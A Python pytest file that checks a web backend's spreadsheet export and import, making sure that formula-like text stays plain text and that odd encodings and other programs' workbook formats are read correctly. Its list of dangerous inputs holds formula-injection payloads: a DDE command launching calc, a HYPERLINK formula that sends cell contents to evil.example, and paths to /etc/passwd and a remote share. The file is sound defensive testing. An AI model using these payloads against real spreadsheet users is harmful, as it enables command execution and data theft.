"""Text that a spreadsheet could run as a formula stays plain text in every exported and imported column."""

import csv
import io
import re
import shutil
import subprocess
import sys
import tracemalloc
import zipfile
from datetime import date

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from pydantic import TypeAdapter, ValidationError

from chalicelib.repos.files import uploaded_workbook, workbook
from chalicelib.rules.applications import person_import, progress
from chalicelib.rules.base.errors import Invalid
from chalicelib.rules.forms import fields
from chalicelib.rules.values.cells import CellError

TODAY = date(2026, 11, 21)
LEADS = ("=", "+", "-", "@", "\t", "\r")
DANGEROUS = [
    *(f"{lead}1+1" for lead in LEADS),
    *(f"{lead}cmd|' /C calc'!A0" for lead in LEADS),
    '=HYPERLINK("https://evil.example/?q="&A1)',
    "https://evil.example/?q=1",
    "mailto:somebody@evil.example",
    "file:///etc/passwd",
    "\\\\evil.example\\share",
    "#N/A",
    "0123",
    "1e5",
    "2026-11-21",
    "TRUE",
    "'quoted",
    '"quoted", twice',
    "line\nline",
]
OFFICE = shutil.which("soffice")


def shown(value):
    """The text as an XML reader returns it: a carriage return becomes a line feed."""
    return value.replace("\r", "\n")


def cells(content):
    """All cells that have a value, by row."""
    (page,) = load_workbook(io.BytesIO(content)).worksheets
    return [[cell for cell in row if cell.value is not None] for row in page.iter_rows()]


@pytest.fixture(scope="module")
def exported():
    """A sheet with every dangerous text in every column, its header too."""
    columns = len(progress.COLUMNS)
    return workbook.sheet("人员申请进度", ["=A1"] * columns, [[text] * columns for text in DANGEROUS])


@pytest.fixture(scope="module")
def template():
    return workbook.template("人员", person_import.headers())


@pytest.fixture(scope="module")
def filled(template):
    """The template with a dangerous text, as text, in every column that takes text."""
    book = load_workbook(io.BytesIO(template))
    for row, text in enumerate(DANGEROUS, start=2):
        for column in range(1, len(person_import.COLUMNS) + 1):
            cell = book.worksheets[0].cell(row, column)
            cell.value = text
            cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_an_exported_sheet_contains_only_text_cells_with_unchanged_text(exported):
    header, *rows = cells(exported)
    assert [cell.value for cell in header] == ["=A1"] * len(progress.COLUMNS)
    assert [[cell.value for cell in row] for row in rows] == [
        [shown(text)] * len(progress.COLUMNS) for text in DANGEROUS
    ]
    found = [cell for row in [header, *rows] for cell in row]
    assert {(cell.data_type, cell.hyperlink) for cell in found} == {("s", None)}
    sys.stdout.write(f"exported sheet: {len(found)} cells, all strings, 0 formulas, 0 links\n")


def test_an_exported_sheet_keeps_its_header_in_sight_and_wraps_every_cell(exported):
    (page,) = load_workbook(io.BytesIO(exported)).worksheets
    assert page.freeze_panes == "A2"
    assert {cell.alignment.wrap_text for row in page.iter_rows() for cell in row} == {True}
    assert [{cell.font.bold for cell in row} for row in page.iter_rows(max_row=2)] == [{True}, {False}]


def test_a_column_is_as_wide_as_its_longest_line_but_not_wider_than_44_characters():
    content = workbook.sheet(
        "测试", ["编号", "名", "经济体"], [["A" * 20, "测试", "新加坡、" * 16], ["A", "一\n二", ""]]
    )
    (page,) = load_workbook(io.BytesIO(content)).worksheets
    assert [page.column_dimensions[letter].width for letter in "ABC"] == [22, 10, 44]


NAME = TypeAdapter(fields.text(2, 50))
UNLIKELY = "\x00\x0b\x1f\x7f\x85\xad\u200b\u2028\u202e\ud800\ufdd0\ufeff\ufffd\ufffe\uffff\U0001fffe\U0010ffff"
TEXTS = st.lists(st.characters(codec=None) | st.sampled_from(UNLIKELY), max_size=60).map("".join)


def typed(rows):
    return [(1, person_import.headers()), *enumerate(rows, start=2)]


def is_name(value):
    try:
        return NAME.validate_python(value) == value
    except ValidationError:
        return False


@settings(deadline=None, database=None, derandomize=True, max_examples=200)
@given(st.lists(TEXTS, min_size=1, max_size=20))
def test_every_text_that_a_field_accepts_is_unchanged_in_the_export(texts):
    names = [text for text in texts if is_name(text)] or ["测试"]
    page = workbook.sheet("人员申请进度", ["姓名"], [[name] for name in names])
    assert [cell.value for (cell,) in cells(page)[1:]] == names


@settings(deadline=None, database=None, derandomize=True, max_examples=100)
@given(TEXTS)
def test_an_export_is_a_readable_workbook_for_any_stored_text(text):
    cells(workbook.sheet("人员申请进度", ["姓名"], [[f"测{text}试"]]))


@pytest.mark.parametrize("character", "\x00\x1f\ud800\udfff\ufffe\uffff")
def test_characters_that_xml_cannot_represent_are_omitted_from_a_sheet(character):
    page = workbook.sheet("人员申请进度", ["姓名"], [[f"测{character}试"]])
    assert [cell.value for (cell,) in cells(page)] == ["姓名", "测试"]


def test_the_headers_of_the_template_are_text_cells(template):
    header, *rest = cells(template)
    assert [(cell.value, cell.data_type) for cell in header] == [(title, "s") for title in person_import.headers()]
    assert not any(rest)


def test_texts_of_a_filled_in_template_are_read_unchanged(filled):
    persons, _ = person_import.read(uploaded_workbook.rows(filled), TODAY)
    texts = ("name", "passport_place", "title", "title_en")
    read = [[person[name] for name in texts] for person in persons]
    assert read == [[shown(text).strip()] * len(texts) for text in DANGEROUS]
    sys.stdout.write(f"filled-in template: {len(read) * len(texts)} texts read as they are\n")


def test_a_formula_in_a_filled_in_template_is_read_as_an_empty_cell(template):
    book = load_workbook(io.BytesIO(template))
    for column in range(1, len(person_import.COLUMNS) + 1):
        book.worksheets[0].cell(2, column).value = '="测试"&"甲"'
    buffer = io.BytesIO()
    book.save(buffer)
    assert person_import.read(uploaded_workbook.rows(buffer.getvalue()), TODAY) == ([], [])


def test_a_carriage_return_or_tab_inside_a_name_or_title_is_refused():
    persons, _ = person_import.read(typed([f"{lead}测试"] * len(person_import.COLUMNS) for lead in ("\t", "\r")), TODAY)
    assert [person["name"] for person in persons] == ["测试", "测试"]
    _, errors = person_import.read(typed([f"测{lead}试"] * len(person_import.COLUMNS) for lead in ("\t", "\r")), TODAY)
    refused = {(error.row, error.error.field) for error in errors if error.error.code == "CONTROL_CHARACTER"}
    assert refused >= {
        (row, f"persons.{name}") for row in (2, 3) for name in ("name", "title", "title_en", "passport_place")
    }


# What programs write


def parts_of(content):
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        return {name: packed.read(name) for name in packed.namelist()}


def packed(parts):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return buffer.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
SHARED = """<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument\
.spreadsheetml.sharedStrings+xml"/></Types>"""


def as_excel(xml, shared=""):
    """A workbook with the cells of its second row, and a shared string, as Excel writes them."""
    parts = parts_of(saved(Workbook()))
    row = b'<sheetData><row r="2">' + xml.encode() + b"</row></sheetData>"
    parts[SHEET] = re.sub(rb"<sheetData ?/>|<sheetData></sheetData>", lambda _: row, parts[SHEET])
    assert row in parts[SHEET]
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", SHARED.encode())
    namespace = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    parts["xl/sharedStrings.xml"] = f'<sst xmlns="{namespace}"><si><t>{shared}</t></si></sst>'.encode()
    return packed(parts)


def saved(book):
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


STRING_CELLS = {
    "shared": lambda text: as_excel('<c r="A2" t="s"><v>0</v></c>', text),
    "inline": lambda text: as_excel(f'<c r="A2" t="inlineStr"><is><t>{text}</t></is></c>'),
    "formula": lambda text: as_excel(f'<c r="A2" t="str"><f>B2</f><v>{text}</v></c>'),
}


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("测试_x000D_\n甲", "测试\r\n甲"),
        ("_x4E00_甲", "一甲"),
        ("_x005F_x4E00_", "_x4E00_"),
        ("x005F_", "x005F_"),
        ("_x005f_", "_"),
        ("_x4E0_", "_x4E0_"),
        ("a_b__c_", "a_b__c_"),
        ("_xD842__xDFB7_野家", "𠮷野家"),
        ("_xD842_野家", "_xD842_野家"),
        ("\U0010fffd1", "\U0010fffd1"),
    ],
)
@pytest.mark.parametrize("form", STRING_CELLS)
def test_escaped_characters_of_a_workbook_are_decoded_once(written, read, form):
    ((_, row),) = uploaded_workbook.rows(STRING_CELLS[form](written))
    assert row[0] == read


def test_a_cell_that_shows_an_error_differs_from_the_same_text():
    cell, text = uploaded_workbook.rows(
        as_excel('<c r="A2" t="e"><v>#N/A</v></c><c r="B2" t="inlineStr"><is><t>#N/A</t></is></c>')
    )[0][1][:2]
    assert (cell, text) == (CellError("#N/A"), "#N/A")


def test_a_number_cell_formatted_as_a_day_out_of_range_is_an_error():
    book = Workbook()
    book.worksheets[0]["A1"] = 430102190001010000
    book.worksheets[0]["A1"].number_format = "yyyy-mm-dd"
    ((_, row),) = uploaded_workbook.rows(saved(book))
    assert row[0] == CellError("#VALUE!")


def backslashes(parts):
    return {name.replace("/", "\\"): content for name, content in parts.items()}


def capitals(parts):
    """As some exporters name the part; content types and relationships keep the usual name."""
    return {name.replace("sharedStrings", "SharedStrings"): content for name, content in parts.items()}


def strict(parts):
    """As Excel saves `Strict Open XML Spreadsheet`."""
    main = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    office = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return {
        name: content.replace(main, b"http://purl.oclc.org/ooxml/spreadsheetml/main").replace(
            office, b"http://purl.oclc.org/ooxml/officeDocument/relationships"
        )
        for name, content in parts.items()
    }


@pytest.mark.parametrize("written_by", [backslashes, capitals, strict])
def test_workbooks_of_other_programs_are_read(written_by):
    parts = parts_of(as_excel('<c r="A2" t="s"><v>0</v></c><c r="B2" t="d"><v>2026-11-21</v></c>', "测试甲"))
    changed = written_by(parts)
    assert changed != parts
    ((number, row),) = uploaded_workbook.rows(packed(changed))
    assert (number, row[:3]) == (2, ("测试甲", date(2026, 11, 21), None))


@pytest.mark.parametrize(("stream", "code"), [("EncryptedPackage", "WORKBOOK_PASSWORD"), ("Workbook", "WORKBOOK_OLD")])
def test_a_workbook_with_a_password_and_one_of_excel_97_are_told_apart(stream, code):
    content = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(1_024) + stream.encode("utf-16-le") + bytes(1_024)
    with pytest.raises(Invalid) as refused:
        uploaded_workbook.rows(content)
    assert [(error.field, error.code) for error in refused.value.errors] == [("attachment_id", code)]


def test_no_row_between_two_distant_rows_is_made():
    book = Workbook()
    book.worksheets[0]["A1"], book.worksheets[0]["A1048576"] = "first", "last"
    content = saved(book)
    tracemalloc.start()
    try:
        found = uploaded_workbook.rows(content)
        most = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert [(number, row[0]) for number, row in found] == [(1, "first"), (1_048_576, "last")]
    assert most < 4_000_000


@pytest.mark.skipif(OFFICE is None, reason="LibreOffice (soffice) is not installed: openpyxl alone has read the sheets")
def test_libreoffice_reads_the_same_texts(exported, filled, tmp_path):
    for name, content in (("exported", exported), ("filled", filled)):
        (tmp_path / f"{name}.xlsx").write_bytes(content)
    as_text = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,false,true,false"
    command = [
        *(str(OFFICE), f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless"),
        *("--convert-to", as_text, "--outdir", str(tmp_path)),
        *(str(tmp_path / f"{name}.xlsx") for name in ("exported", "filled")),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    wide = {"exported": len(progress.COLUMNS), "filled": len(person_import.COLUMNS)}
    for name, columns in wide.items():
        text = (tmp_path / f"{name}.csv").read_text(encoding="utf-8")
        rows = list(csv.reader(io.StringIO(text, newline="")))[1 : len(DANGEROUS) + 1]
        assert rows == [[shown(text)] * columns for text in DANGEROUS], name
        # Texts are written in quotes, numbers, days and results of formulas without.
        assert text.count('"') >= 2 * columns * (len(DANGEROUS) + 1), name
    sys.stdout.write(f"LibreOffice: {sum(wide.values()) * len(DANGEROUS)} cells, all texts unchanged\n")
